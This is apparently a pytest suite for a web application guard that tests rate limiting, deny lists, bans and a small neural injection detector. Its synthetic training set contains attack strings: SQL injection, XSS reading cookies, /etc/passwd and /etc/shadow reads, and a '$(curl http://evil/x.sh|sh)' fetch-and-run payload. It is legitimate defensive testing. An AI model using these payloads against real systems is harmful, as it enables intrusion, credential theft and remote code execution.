"""The guard's decisions with a fake clock, its bounded memory, and its detector end to end on a
small synthetic set (trained in seconds, scored in numpy exactly as torch scores it)."""

from __future__ import annotations

import random

import numpy as np
import pytest
import torch

from webtorch.config import GuardConfig
from webtorch.guard.clients import ClientTable
from webtorch.guard.core import ALLOW, BLOCK, THROTTLE, Guard
from webtorch.guard.detector import GuardNet, Scorer, merge
from webtorch.guard.features import (
    FIELDS,
    RequestView,
    bags,
    ngram_ids,
    normalise,
    part_features,
    parts,
)
from webtorch.guard.train import Example, _batch, calibrate, encode_all, fit, predict

UA = (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0")


def get(path: str = "/", query: str = "") -> RequestView:
    return RequestView("GET", path, query, [(b"host", b"shop"), UA, (b"accept", b"text/html")])


def test_normalise_undoes_double_encoding_and_case() -> None:
    assert normalise(b"%2527%20UNION+SELECT") == b"' union select"


def test_token_bucket_throttles_past_the_burst_and_refills() -> None:
    guard = Guard(GuardConfig(mode="enforce", rate=10, burst=5))
    decisions = [guard.check(get(), "10.0.0.1", 100.0) for _ in range(6)]
    assert [d.action for d in decisions] == [ALLOW] * 5 + [THROTTLE]
    assert decisions[-1].reason == "rate_limit"
    assert decisions[-1].retry_after == pytest.approx(0.1)
    assert guard.check(get(), "10.0.0.2", 100.0).action == ALLOW  # buckets are per client
    assert guard.check(get(), "10.0.0.1", 100.1).action == ALLOW  # one token back after 0.1 s
    assert guard.check(get(), "10.0.0.1", 100.1).action == THROTTLE


def test_lists_bans_and_connection_caps() -> None:
    settings = GuardConfig(
        mode="enforce", allow=["10.1.0.0/16"], deny=["192.0.2.0/24"], max_connections=2
    )
    guard = Guard(settings)
    assert guard.check(get(), "192.0.2.7", 0.0).reason == "deny_list"
    assert guard.check(get(), "10.1.2.3", 0.0).reason == "allow_list"
    assert [guard.connect("10.9.9.9", 0.0).action for _ in range(3)] == [ALLOW, ALLOW, THROTTLE]
    guard.disconnect("10.9.9.9")
    assert guard.connect("10.9.9.9", 0.0).action == ALLOW
    assert guard.connect("192.0.2.1", 0.0).action == BLOCK
    assert guard.connect("10.1.0.1", 0.0).reason == "allow_list"  # never capped


def test_a_block_bans_until_the_ban_expires() -> None:
    guard = Guard(GuardConfig(mode="enforce", ban_seconds=30), scorer=_AlwaysInjection())
    first = guard.check(get(), "10.0.0.5", 0.0)
    assert (first.action, first.reason) == (BLOCK, "injection")
    guard.scorer = None
    assert guard.check(get(), "10.0.0.5", 29.0).reason == "banned"
    assert guard.connect("10.0.0.5", 29.0).reason == "banned"
    assert guard.check(get(), "10.0.0.5", 30.0).action == ALLOW
    assert guard.stats.decisions[(BLOCK, "banned")] == 2


def test_monitor_mode_decides_but_lets_through() -> None:
    guard = Guard(GuardConfig(mode="monitor", ban_seconds=30), scorer=_AlwaysInjection())
    decision = guard.check(get(), "10.0.0.5", 0.0)
    assert decision.action == BLOCK and not decision.enforced and not decision.refused
    assert guard.store.bans == {}  # nobody is banned by a guard that only watches


def test_client_memory_is_bounded_under_ip_churn() -> None:
    table = ClientTable(max_clients=1000)
    for i in range(100_000):
        table.get(f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}", float(i))
    assert len(table) == 1000 and table.evicted == 99_000
    guard = Guard(GuardConfig(mode="enforce", max_clients=500, rate=5))
    for i in range(20_000):
        guard.check(get(), f"172.16.{i >> 8 & 255}.{i & 255}", 0.0)
    assert len(guard.clients) == 500


def test_client_history_sees_a_flood() -> None:
    table = ClientTable()
    calm, flood = table.get("a", 0.0), table.get("b", 0.0)
    for i in range(10):
        calm.arrive("/", i * 5.0)
    for i in range(500):
        flood.arrive(f"/{i % 50}", 45.0 + i * 0.002)
    calm_f, flood_f = calm.features(46.0), flood.features(46.0)
    assert flood_f[0] > calm_f[0] + 3  # log rate over 1 s
    assert flood_f[7] > calm_f[7]  # distinct paths


class _AlwaysInjection(Scorer):
    def __init__(self) -> None:
        pass

    def score_one(self, view: RequestView, client: list[float]) -> tuple[float, float]:
        return 0.999, 0.0


ATTACKS = [
    "1' OR '1'='1",
    "' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/shadow",
    '"><img src=x onerror=alert(1)>',
    "1; DROP TABLE orders--",
    "$(curl http://evil/x.sh|sh)",
]
WORDS = ["shoes", "red dress", "o'brien", "union jack flag", "select wine", "café au lait"]


def synthetic(rng: random.Random, n: int) -> list[Example]:
    examples = []
    for _ in range(n):
        attack = rng.random() < 0.3
        value = rng.choice(ATTACKS) if attack else rng.choice(WORDS) + f" {rng.randint(1, 99)}"
        view = get("/search", "q=" + value.replace(" ", "+"))
        examples.append(Example(view, [0.0] * 9, float(attack), 0.0))
    return examples


def test_detector_learns_injection_and_numpy_scores_as_torch_does() -> None:
    rng = random.Random(1)
    train = encode_all(synthetic(rng, 1500))
    net = fit(train, epochs=3)
    test_examples = synthetic(rng, 300)
    probabilities = predict(net, encode_all(test_examples))[:, 0]
    labels = np.array([e.injection for e in test_examples])
    assert probabilities[labels == 1].min() > 0.5 > probabilities[labels == 0].max()
    scorer = Scorer.from_net(net)
    for example in test_examples[:20]:
        ids, offsets, numeric, _ = _batch(encode_all([example]))
        with torch.no_grad():
            expected = torch.sigmoid(net(ids, offsets, numeric))[0].numpy()
        assert scorer.score_one(example.view, list(example.client)) == pytest.approx(
            expected.tolist(),
            abs=1e-4,  # float32 sums in another order
        )


def test_saved_weights_score_the_same(tmp_path: object) -> None:
    from pathlib import Path

    from webtorch.guard.detector import load_net, save

    net = GuardNet()
    path = Path(str(tmp_path)) / "guard.safetensors"
    save(net, path)
    view = get("/search", "q=1'+or+'1'='1")
    assert Scorer.from_file(path).score_one(view, [0.0] * 9) == pytest.approx(
        Scorer.from_net(net).score_one(view, [0.0] * 9),
        abs=1e-3,  # the file's float16 embedding
    )
    assert load_net(path).state_dict().keys() == net.state_dict().keys()


def test_word_bigrams_tell_word_order_apart() -> None:
    # The same words in another order: the same byte 3-grams (nearly), other bigrams.
    attack, review = ngram_ids(b"1 union select 2"), ngram_ids(b"1 select union 2")
    assert len(attack) == len(review) == 14 + 3  # 14 byte 3-grams, 4 words -> 3 bigrams
    assert set(attack[14:].tolist()).isdisjoint(review[14:].tolist())
    assert ngram_ids(b"ab").tolist() == ngram_ids(b"ab\0").tolist()  # short text: padded
    assert all(0 <= i < 1 << 16 for i in attack.tolist())


def test_part_features_are_shares_of_the_raw_bytes() -> None:
    stats, text = part_features(b"A%2527b")
    assert text == b"a'b"  # decoded twice, lower case
    length, alpha, digit, special, space, control, escapes, distinct = stats.tolist()
    assert length == pytest.approx(np.log1p(7))
    assert (alpha, digit, escapes) == pytest.approx((2 / 7, 4 / 7, 1 / 7))
    assert (special, space, control) == (0.0, 0.0, 0.0)
    assert distinct == pytest.approx(6 / 7)


def test_a_merged_ensemble_scores_the_mean_of_its_members_logits() -> None:
    rng = random.Random(2)
    data = encode_all(synthetic(rng, 300))
    members = [fit(data, epochs=1, seed=s) for s in range(3)]
    merged = Scorer.from_net(merge(members))
    scorers = [Scorer.from_net(m) for m in members]
    for example in synthetic(rng, 20):
        probabilities = np.array([s.score_one(example.view, [0.0] * 9) for s in scorers])
        logits = np.log(probabilities / (1 - probabilities)).mean(axis=0)
        expected = 1 / (1 + np.exp(-logits))
        assert merged.score_one(example.view, [0.0] * 9) == pytest.approx(expected, abs=1e-5)


def test_calibrated_threshold_keeps_false_positives_within_the_target() -> None:
    scores = [i / 1000 for i in range(1000)]  # 0.000 .. 0.999
    block = calibrate(scores, 0.005)  # at most 5 of 1,000 at or above it
    assert sum(s >= block for s in scores) == 5
    assert calibrate([0.1, 0.2], 0.0) == 0.5  # never below 0.5
    assert calibrate([0.99999], 0.0) == 0.999  # nor above 0.999


def test_bags_of_many_texts_are_each_texts_ngram_ids() -> None:
    rng = random.Random(3)
    alphabet = b"ab' =(),;/<>\0 selectunion12"
    for _ in range(50):
        texts = [
            bytes(rng.choice(alphabet) for _ in range(rng.choice([0, 1, 2, 3, 5, 20, 80])))
            for _ in range(rng.randint(1, 8))
        ]
        ids, counts = bags(texts)
        assert counts.tolist() == [len(ngram_ids(t)) for t in texts]
        start = 0
        for text, count in zip(texts, counts.tolist(), strict=True):
            assert sorted(ids[start : start + count].tolist()) == sorted(ngram_ids(text).tolist())
            start += count


def test_a_batch_scores_as_its_requests_do_one_by_one() -> None:
    rng = random.Random(4)
    net = fit(encode_all(synthetic(rng, 200)), epochs=1)
    examples = synthetic(rng, 40)
    examples.append(Example(RequestView("GET", "", "", [], b""), [0.0] * 9, 0.0, 0.0))
    views = [e.view for e in examples]
    clients = [[0.1 * i] * 9 for i in range(len(views))]
    fresh = Scorer.from_net(net)  # every part a miss: computed together
    batch = fresh.score(views, clients)
    again = fresh.score(views, clients)  # every part cached
    alone = Scorer.from_net(net)
    for i, view in enumerate(views):
        expected = alone.score_one(view, clients[i])
        assert batch[i].tolist() == pytest.approx(expected, abs=1e-5)
        assert again[i].tolist() == pytest.approx(expected, abs=1e-5)


def test_cookies_and_the_referer_are_fields_of_their_own() -> None:
    headers = [
        (b"host", b"shop"),
        (b"user-agent", b"Mozilla/5.0"),
        (b"cookie", b"sid=abc"),
        (b"referer", b"https://shop/search?q=x"),
        (b"cookie", b"lang=en"),
    ]
    got = dict(zip(FIELDS, parts(RequestView("GET", "/p", "q=1", headers)), strict=True))
    assert got["headers"] == b"user-agent: Mozilla/5.0"  # host is skipped
    assert got["cookie"] == b"sid=abc; lang=en"
    assert got["referer"] == b"https://shop/search?q=x"
    assert (got["path"], got["query"], got["body"]) == (b"/p", b"q=1", b"")
